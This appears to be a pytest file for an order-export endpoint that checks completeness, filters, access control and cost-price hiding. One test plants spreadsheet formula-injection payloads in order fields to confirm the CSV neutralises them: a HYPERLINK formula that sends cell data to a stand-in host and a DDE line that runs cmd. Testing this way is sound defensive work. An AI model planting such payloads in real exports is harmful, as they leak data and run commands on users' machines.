"""Orders as streams: the orders of the list, whole, and tables that no spreadsheet runs."""

import csv
import io
import json
from collections.abc import Awaitable, Callable
from typing import Any

import asyncpg
import httpx
import pytest
from starlette.applications import Starlette

from app.rest import export
from tests.conftest import GraphQL, calling, credentials, settings_for

Get = Callable[..., Awaitable[httpx.Response]]
LIST = """query ($input: OrderSearchArguments) { orders(input: $input) { pages items {
  id uuid status type email reference createdAt fulfillmentStatus overdue validUntil currency version
  total { gross net tax grossExact netExact taxExact discountExact refundedExact } currencyRatioExact
  postageData { method requestDate grossExact taxPercentageExact } paymentData { status netExact }
  addresses { type city postalCode } items { id sku name quantity priceExact priceTotalNetExact refundedExact } } } }"""


@pytest.fixture
def exported(client: httpx.AsyncClient, demo_dsn: str) -> Get:
    settings = settings_for(demo_dsn)

    async def get(kind: str, query: str = "", viewer: str = "staff") -> httpx.Response:
        return await client.get(f"/export/orders.{kind}?{query}", headers=credentials(viewer, settings))

    return get


async def listed(graphql: GraphQL, viewer: str, **input: Any) -> list[Any]:
    found: list[Any] = []
    page = pages = 1
    while page <= pages:
        answer = await graphql(LIST, {"input": {**input, "page": page, "offset": 100}}, viewer=viewer)
        orders = answer["data"]["orders"]
        found += orders["items"]
        pages, page = orders["pages"], page + 1
    return found


def part(whole: Any, like: Any) -> Any:
    """What `whole` has of the members of `like`."""
    if isinstance(like, dict):
        return {name: part(whole[name], value) for name, value in like.items()}
    if isinstance(like, list):
        return [part(one, value) for one, value in zip(whole, like, strict=True)]
    return whole


def table(response: httpx.Response) -> list[dict[str, str]]:
    assert response.headers["content-type"] == "text/csv; charset=utf-8; header=present"
    return list(csv.DictReader(io.StringIO(response.text, newline="")))


@pytest.mark.parametrize("viewer", ["staff", "apikey", "northwind", "hofstra-writer", "contact", "outsider", "john"])
async def test_export_is_the_list_of_the_same_viewer_in_full(
    exported: Get, graphql: GraphQL, viewer: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(export, "_BATCH_ROWS", 7)
    expected = await listed(graphql, viewer)
    response = await exported("ndjson", viewer=viewer)
    assert response.status_code == 200, response.text
    found = [json.loads(line) for line in response.text.splitlines()]
    assert [part(order, like) for order, like in zip(found, expected, strict=True)] == expected
    rows = table(await exported("csv", viewer=viewer))
    assert [int(row["id"]) for row in rows] == [order["id"] for order in expected]
    for row, order in zip(rows, expected, strict=True):
        assert row["createdAt"] == order["createdAt"]
        assert row["fulfillmentStatus"] == order["fulfillmentStatus"]
        assert float(row["total.gross"]) == order["total"]["gross"]
        for name in ("total", "postageData", "paymentData"):
            for member, value in order[name].items():
                assert not member.endswith("Exact") or row[f"{name}.{member}"] == value


@pytest.mark.parametrize(
    ("query", "input"),
    [
        ("status=CONFIRMED&status=NEW", {"status": ["CONFIRMED", "NEW"]}),
        ("fulfillmentStatuses=PARTIALLY_SHIPPED", {"fulfillmentStatuses": ["PARTIALLY_SHIPPED"]}),
        ("overdue=true", {"overdue": True}),
        ("overdue=false&companyIds=2", {"overdue": False, "companyIds": [2]}),
        ("term=acz-18v&termFields=ITEM_SKU", {"term": "acz-18v", "termFields": ["ITEM_SKU"]}),
        ("codes=3stest1234567890", {"codes": ["3STEST1234567890"]}),
        ("createdAt.lessThan=2025-11-03", {"createdAt": {"lessThan": "2025-11-03"}}),
        ("price.greaterThan=100&price.lessThan=999.5", {"price": {"greaterThan": 100, "lessThan": 999.5}}),
        ("sources.name=shop", {"sources": [{"name": "shop"}]}),
        ("sources.name=shop&sources.id=7&sources.id=8", {"sources": [{"name": "shop", "id": "7"}, {"id": "8"}]}),
        (
            "companySources.name=erp&companySources.id=1&companySources.name=erp&companySources.id=2",
            {"companySources": [{"name": "erp", "id": "1"}, {"name": "erp", "id": "2"}]},
        ),
    ],
)
async def test_export_takes_the_filters_of_the_list(
    exported: Get, graphql: GraphQL, query: str, input: dict[str, Any]
) -> None:
    expected = [order["id"] for order in await listed(graphql, "staff", **input)]
    found = [json.loads(line)["id"] for line in (await exported("ndjson", query)).text.splitlines()]
    assert found == expected
    assert [int(row["id"]) for row in table(await exported("csv", query))] == expected


@pytest.mark.parametrize(
    ("query", "status"),
    [
        ("colour=red", 400),
        ("overdue=maybe", 400),
        ("term=" + "+a" * 20, 400),
        ("page=2", 400),
        ("price.lessThan=NaN", 400),
        ("price.equal=cheap", 400),
        ("companySources.id=1", 400),
        ("sources=shop", 400),
        ("sources.name=%00", 400),
        ("&".join(["sources.name=2024-01-01"] * 101), 400),
        ("sources.name=" + "x" * 256, 400),
    ],
)
async def test_export_refuses_what_is_no_filter(exported: Get, query: str, status: int) -> None:
    for kind in ("ndjson", "csv"):
        response = await exported(kind, query)
        assert response.status_code == status
        assert response.json()["errors"]


async def test_export_is_for_who_may_read_orders(client: httpx.AsyncClient) -> None:
    assert (await client.get("/export/orders.csv")).status_code == 401


async def test_table_holds_nothing_that_a_spreadsheet_runs(
    copy: Starlette, demo_copy_dsn: str, copy_connection: asyncpg.Connection
) -> None:
    texts = {
        "remarks": '=HYPERLINK("https://evil.example?"&A1,"x")',
        "reference": " +1+cmd|' /C calc'!A0",
        "extra3": "-2+3",
        "extra4": "\uff20SUM(1)",
        "email": "@sum.example",
    }
    sets = ", ".join(f"{name} = ${place}" for place, name in enumerate(texts, 1))
    await copy_connection.execute(f"UPDATE orders SET {sets} WHERE id = 2075", *texts.values())
    await copy_connection.execute("UPDATE order_addresses SET company = '=x', city = 'a\"b,c' WHERE order_id = 2075")
    headers = credentials("staff", settings_for(demo_copy_dsn))
    async with calling(copy) as client:
        response = await client.get("/export/orders.csv?codes=3STEST1234567890", headers=headers)
    [row] = table(response)
    for name, text in texts.items():
        assert row[name] == f"'{text}"
    assert row["delivery.company"] == "'=x"
    assert row["delivery.city"] == 'a"b,c'
    assert row["codes"] == "3STEST1234567890"
    assert not any(value.lstrip().startswith(("=", "+", "-", "@")) for value in row.values() if value)


@pytest.mark.parametrize(
    ("viewer", "cost"), [("staff", 7.5), ("apikey", 7.5), ("hofstra-writer", 7.5), ("contact", None), ("john", None)]
)
async def test_what_a_line_costs_the_seller_is_not_for_who_buys(
    copy: Starlette, demo_copy_dsn: str, copy_connection: asyncpg.Connection, viewer: str, cost: float | None
) -> None:
    """By no way: not by the list, one object or a line of the export."""
    await copy_connection.execute("UPDATE order_items SET cost_price = 7.5")
    document = "{ orders(input: {offset: 1}) { items { id items { costPrice costPriceExact } } } }"
    single = "query ($id: Int!) { order(orderId: $id) { items { costPrice costPriceExact } } }"
    headers = credentials(viewer, settings_for(demo_copy_dsn))
    async with calling(copy) as client:
        listed = await client.post("/graphql", json={"query": document}, headers=headers)
        [order] = listed.json()["data"]["orders"]["items"]
        body = {"query": single, "variables": {"id": order["id"]}}
        alone = (await client.post("/graphql", json=body, headers=headers)).json()["data"]["order"]
        response = await client.get("/export/orders.ndjson", headers=headers)
        text = (await client.get("/export/orders.csv", headers=headers)).text
    exported = [json.loads(line) for line in response.text.splitlines()]
    lines = [line for whole in (order, alone, *exported) for line in whole["items"]]
    told = {(line["costPrice"], line["costPriceExact"]) for line in lines}
    assert told == {(cost, None if cost is None else "7.50")}
    assert "costPrice" not in text
